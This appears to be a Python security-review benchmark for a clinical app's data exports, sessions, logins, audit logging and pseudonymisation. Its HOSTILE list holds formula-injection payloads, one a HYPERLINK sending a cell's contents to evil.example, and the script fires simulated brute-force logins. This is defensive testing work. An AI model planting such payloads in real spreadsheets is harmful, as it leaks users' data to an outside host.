"""Information-governance measurements (issue 16), as the security review scripted them.

Run from a checkout: ``PYTHONPATH=. .venv/bin/python -m bench.governance`` (add
``PYTHONPATH=/work/main`` to measure another checkout). Prints one line per item; each
line is what a reviewer would see on a fresh SQLite database with the test cast.
"""

import csv
import tempfile
import uuid
from datetime import timedelta
from pathlib import Path

from fastapi.testclient import TestClient
from openpyxl import load_workbook
from sqlmodel import func, select

from app import migrate
from app.audit.models import AuditEvent
from app.config import Settings
from app.db import open_session
from app.exports import service as exports_service
from app.exports.service import ExportFormat, ExportRequest
from app.main import create_app
from tests.factories import PASSWORD, build_world, login

HOSTILE = (
    '=HYPERLINK("https://evil.example/?"&A2,"Open")',
    "+1+1",
    "@SUM(1+1)",
    "-2+3",
    "=1+1 and a long week",
)
STRONG_KEY = "a study key of twenty-plus characters"


def _export(engine, out: Path, **request):  # type: ignore[no-untyped-def]
    from tests.exports.conftest import actor

    with open_session(engine, write=True) as session:
        exports_service.run_export(
            session,
            actor=actor(engine, "clinician@one.example"),
            request=ExportRequest(**request),
            out_dir=out,
        )
        session.commit()


def _audit_rows(engine) -> int:  # type: ignore[no-untyped-def]
    with open_session(engine) as session:
        return int(session.exec(select(func.count()).select_from(AuditEvent)).one())


def main() -> None:
    folder = Path(tempfile.mkdtemp(prefix="tend-governance-"))
    url = f"sqlite:///{folder / 'tend.db'}"
    migrate.upgrade(url)
    settings = Settings(
        environment="test", database_url=url, data_dir=folder / "data", secret_key="x" * 40
    )
    app = create_app(settings)
    with TestClient(app) as client:
        engine = app.state.engine
        world = build_world(engine)
        login(client, "P-A1")
        for text in HOSTILE:
            body = {"kind": "weekly", "week_number": 1, "text": text}
            client.put(f"/api/v1/reflections/{uuid.uuid4()}", json=body)
        from tests.exports.conftest import post_practice

        for day in range(3):  # three practices, each rated before and after
            post_practice(client, world.group_a.start_date + timedelta(days=day), seconds=600)
        logout = client.post("/api/v1/auth/logout")
        print(f"2 Clear-Site-Data on API sign-out: {logout.headers.get('clear-site-data')}")

        _export(engine, folder / "x", format=ExportFormat.xlsx, free_text=True)
        book = load_workbook(folder / "x" / "tend-export.xlsx")
        formulas = sum(
            1 for s in book.worksheets for r in s.iter_rows() for c in r if c.data_type == "f"
        )
        _export(engine, folder / "b", free_text=True)
        with (folder / "b" / "reflections.csv").open(newline="") as handle:
            raw = sum(
                1
                for row in csv.reader(handle)
                for cell in row
                if cell.startswith(("=", "+", "-", "@", "\t", "\r"))
            )
        print(f"1 live formulas in the workbook: {formulas}; raw formula cells in CSV: {raw}")

        with TestClient(app) as phone:
            login(phone, "P-A2")
            login(client, "fa@one.example")
            from app.clinics.models import User
            from app.groups import service as groups_service

            with open_session(engine, write=True) as session:
                actor = session.get(User, world.users["facilitator_a"].id)
                group = groups_service.get_group(session, world.group_a.id or 0)
                groups_service.withdraw(
                    session,
                    actor=actor,  # type: ignore[arg-type]
                    group=group,
                    enrolment=world.enrolments["A2"],
                    reason="measured",
                )
                session.commit()
            print(
                f"3 withdrawn patient's /api/v1/auth/me: {phone.get('/api/v1/auth/me').status_code}"
            )

        with TestClient(app, client=("203.0.113.9", 1)) as stranger:
            for _ in range(15):
                stranger.post(
                    "/api/v1/auth/login",
                    json={"login": "clinician@one.example", "password": "wrong"},
                )
        with TestClient(app, client=("198.51.100.7", 1)) as clinic_pc:
            right = clinic_pc.post(
                "/api/v1/auth/login",
                json={"login": "clinician@one.example", "password": PASSWORD},
            )
        print(f"4 clinician, right password, after a stranger's 15 guesses: {right.status_code}")

        before = _audit_rows(engine)
        with TestClient(app, client=("192.0.2.1", 1)) as scanner:
            for _ in range(60):
                scanner.get("/api/v1/practice-logs")
        print(f"5 audit rows from 60 anonymous requests: {_audit_rows(engine) - before}")

        try:
            _export(engine, folder / "weak", study_key="k")
            weak = "accepted"
        except Exception as error:
            weak = f"refused ({type(error).__name__}: {getattr(error, 'field', '')})"
        _export(engine, folder / "plain")
        _export(engine, folder / "pseudo", study_key=STRONG_KEY)
        same = 0
        for name, column in (
            ("practice_logs.csv", "log_id"),
            ("checkins.csv", "checkin_id"),
            ("checkins.csv", "practice_log_id"),
        ):
            with (
                (folder / "plain" / name).open(newline="") as a,
                (folder / "pseudo" / name).open(newline="") as b,
            ):
                plain = {r[column] for r in csv.DictReader(a)}
                pseudo = {r[column] for r in csv.DictReader(b)}
            same += len(plain & pseudo)
        print(f"6 one-letter study key: {weak}; row ids identical plain vs pseudonymised: {same}")

    import os

    saved = {
        k: os.environ.pop(k) for k in ("TEND_ENVIRONMENT", "TEND_SECRET_KEY") if k in os.environ
    }
    try:
        Settings()
        secret = "starts without TEND_SECRET_KEY"
    except ValueError:
        secret = "refuses to start without TEND_SECRET_KEY"
    finally:
        os.environ.update(saved)
    print(f"8 default environment: {secret}")


if __name__ == "__main__":
    main()
